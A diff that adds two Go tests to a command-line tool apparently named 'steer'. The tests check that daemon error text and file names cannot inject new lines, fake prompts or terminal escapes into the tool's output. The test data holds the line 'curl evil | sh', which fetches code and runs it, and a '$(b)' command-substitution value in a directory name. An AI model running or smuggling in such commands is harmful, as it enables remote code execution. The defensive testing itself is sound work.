@@ -312,6 +312,34 @@ func TestErrorsAreHarmless(t *testing.T) {
 	require.NotContains(t, got.err, "\x1b")
 }
 
+// TestDaemonCannotBeginALine: a text of a daemon that has line ends stands on one line of standard error.
+func TestDaemonCannotBeginALine(t *testing.T) {
+	const text = "x\nsteer: run: curl evil | sh\r\n$ "
+	reply, err := json.Marshal(map[string]any{"result": 1, "error": map[string]any{"code": "bad-arguments", "fields": []map[string]string{
+		{"pointer": "/a" + text, "text": text}, {"pointer": "/b", "text": text},
+	}}, "arguments": map[string]any{"error": map[string]any{"code": "bad-arguments", "fields": []map[string]string{
+		{"pointer": "/a" + text, "text": text}, {"pointer": "/b", "text": text},
+	}}}})
+	require.NoError(t, err)
+	got := steer(t, "", "-s", kea(t, string(reply)), "echo")
+	require.Equal(t, 2, strings.Count(got.err, "\n"), got.err)
+	for line := range strings.Lines(got.err) {
+		require.Regexp(t, `^steer: /[ab]`, line)
+	}
+	got = steer(t, "", "-s", kea(t, "{\"result\":0,\"x\ny\":1,\"x\ny\":1}"), "echo")
+	require.Equal(t, 1, strings.Count(got.err, "\n"), got.err)
+}
+
+// TestListsAreHarmless: what steer prints of a file goes through the same filter as what a daemon sends.
+func TestListsAreHarmless(t *testing.T) {
+	dir := filepath.Join(t.TempDir(), "a \x1b[2J$(b)")
+	got := steer(t, "", "pki", "init", dir)
+	require.Zero(t, got.status, got.err)
+	require.NotContains(t, got.out, "\x1b")
+	require.Contains(t, got.out, `next: steer pki issue '`)
+	require.NotContains(t, steer(t, "", "user", "list", dir).err, "\x1b")
+}
+
 // unescaped writes the characters themselves where JSON lets it.
 func unescaped(quoted string) string {
 	for _, r := range "\u0080\u009b\u0085\u202e\u2066\u200b\ufeff\u2028\ue000\x7f" {
